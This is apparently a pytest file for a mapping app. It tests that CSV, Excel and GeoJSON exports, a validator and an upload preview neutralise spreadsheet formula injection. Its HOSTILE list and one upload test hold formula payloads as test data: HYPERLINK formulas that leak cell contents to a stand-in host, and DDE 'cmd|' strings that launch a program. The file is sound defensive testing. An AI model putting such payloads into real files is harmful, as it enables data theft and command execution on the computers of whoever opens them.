"""No download carries a live spreadsheet formula (issue 9 defect 2, OWASP CSV injection).

Hostile cells (= + - @, after leading white space, full-width ＝＋－＠; HYPERLINK exfiltration, DDE ``cmd|``) go
through the real paths: a data/ copy loaded by the app's loader and exported as CSV, Excel and GeoJSON; the
validator's warning; the officials' upload (AppTest file_uploader) and its preview grid. Negative numbers in
numeric columns stay numbers.
"""

from __future__ import annotations

import io
import json
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from apptest_support import APP, open_tab, plain
from streamlit.testing.v1 import AppTest

from geo.checklist_sheet import heading
from geo.export import formula_safe, looks_like_formula, to_csv_bytes, to_excel_bytes, to_geojson_bytes
from geo.load import load_all
from geo.paths import DATA_DIR, PROJECT_ROOT
from geo.schema import PROJECTS

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
SAFE = ["Dezhou park", "-12.5", "+3", "1e-3", "a=b", "中文 = 名称"]


@pytest.mark.slow
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_a_formula_and_gets_a_quote(text: str) -> None:
    assert looks_like_formula(text)
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_plain_text_and_numbers_are_left_alone(text: str) -> None:
    assert not looks_like_formula(text) and formula_safe(text) == text


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """data/ with hostile text in name_en and notes of the first len(HOSTILE) projects (text the plan check does
    not compare, so the rows stay valid)."""
    d = tmp_path_factory.mktemp("formulas") / "data"
    shutil.copytree(DATA_DIR, d)
    df = pd.read_csv(d / "projects.csv", dtype=str, keep_default_na=False)
    for i, text in enumerate(HOSTILE):
        df.loc[i, "name_en"] = text
        df.loc[i, "notes"] = text
    df.to_csv(d / "projects.csv", index=False, encoding="utf-8")
    return d


@pytest.fixture(scope="module")
def hostile_items(hostile_data: Path) -> pd.DataFrame:
    items = load_all(hostile_data).items
    return items[items["name_en"].isin([h.strip() for h in HOSTILE] + HOSTILE)]


def _first_chars(values: list[str]) -> set[str]:
    return {v.lstrip(" \t\r\n")[:1] for v in values}


@pytest.mark.slow
def test_csv_export_has_no_formula(hostile_items: pd.DataFrame) -> None:
    assert len(hostile_items) == len(HOSTILE)
    df = pd.read_csv(io.BytesIO(to_csv_bytes(hostile_items)), dtype=str, encoding="utf-8-sig", keep_default_na=False)
    for col in ("name_en", "notes"):
        assert all(v.startswith("'") for v in df[col]), df[col].tolist()
        assert not any(looks_like_formula(v) for v in df[col])
    # the visible text is kept after the quote
    assert "'" + HOSTILE[0] in set(df["name_en"])


@pytest.mark.slow
def test_excel_export_has_only_strings_never_formulas(hostile_items: pd.DataFrame) -> None:
    frame = hostile_items.assign(elevation_m=[-12.5] * len(hostile_items))  # a numeric column with negatives
    xml = zipfile.ZipFile(io.BytesIO(to_excel_bytes(frame))).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml  # no formula element at all
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(to_excel_bytes(frame))).active
    header = [c.value for c in ws[1]]
    name_col, num_col = header.index("name_en"), header.index("elevation_m")
    rows = list(ws.iter_rows(min_row=2))
    assert all(r[name_col].data_type == "s" and str(r[name_col].value).startswith("'") for r in rows)
    assert [r[num_col].value for r in rows] == [-12.5] * len(HOSTILE)  # negative numbers stay numbers
    assert all(r[num_col].data_type == "n" for r in rows)


@pytest.mark.slow
def test_geojson_export_properties_are_neutralised(hostile_items: pd.DataFrame) -> None:
    fc = json.loads(to_geojson_bytes(hostile_items))
    props = [f["properties"] for f in fc["features"]]
    assert len(props) == len(HOSTILE)
    assert _first_chars([p["name_en"] for p in props]) == {"'"}
    assert _first_chars([p["notes"] for p in props]) == {"'"}


@pytest.mark.slow
def test_validator_warns_on_formula_cells(hostile_data: Path) -> None:
    r = subprocess.run([sys.executable, "-m", "geo.validate", "--data", str(hostile_data)], cwd=PROJECT_ROOT,
                       capture_output=True, text=True, timeout=300)
    warned = re.findall(r"^projects\.csv:row (\d+):(name_en|notes): warning: .*spreadsheet formula", r.stdout, re.M)
    assert len(warned) == 2 * len(HOSTILE)
    assert {int(row) for row, _ in warned} == set(range(2, 2 + len(HOSTILE)))
    assert r.returncode == 0  # a warning: the rows are kept (and neutralised in every export)


@pytest.mark.apptest
def test_checklist_grid_and_upload_preview_show_no_live_formula(data) -> None:
    items = data.items[data.items["units"].map(lambda u: "371425" in u.split(";"))]
    rows = items[list(PROJECTS.columns)].astype(str).replace({"nan": ""}).head(1).reset_index(drop=True)
    rows.loc[0, "name_en"] = '\t=HYPERLINK("http://example.invalid/?x="&A1,"y")'
    at = AppTest.from_file(APP, default_timeout=180)
    at.query_params["unit"] = "371425"
    open_tab(at.run(), "check")
    at.file_uploader(key="corr_upload").set_value(("fix.csv", rows.to_csv(index=False).encode("utf-8"),
                                                   "text/csv")).run()
    assert not at.exception
    # the upload keeps what flags it: the validator warns on the cell (file, row 2, field name_en)
    assert any(plain(w.value).startswith("fix.csv 第 2 行，字段 name_en：") and "HYPERLINK" in w.value
               for w in at.warning), [w.value for w in at.warning]
    # the preview grid (which the browser can copy or download as CSV) shows the cell neutralised
    diff = next(d.value for d in at.dataframe if "字段" in d.value.columns)
    new_values = diff[diff["字段"] == heading("name_en", "zh")]["新值"].tolist()  # fields read in words
    assert new_values and all(v.startswith("'") for v in new_values), new_values
    # the checklist grid too, for every text cell
    table = next(d.value for d in at.dataframe if "id" in d.value.columns and len(d.value) > 5)
    assert not any(looks_like_formula(v) for col in table.columns for v in table[col] if isinstance(v, str))
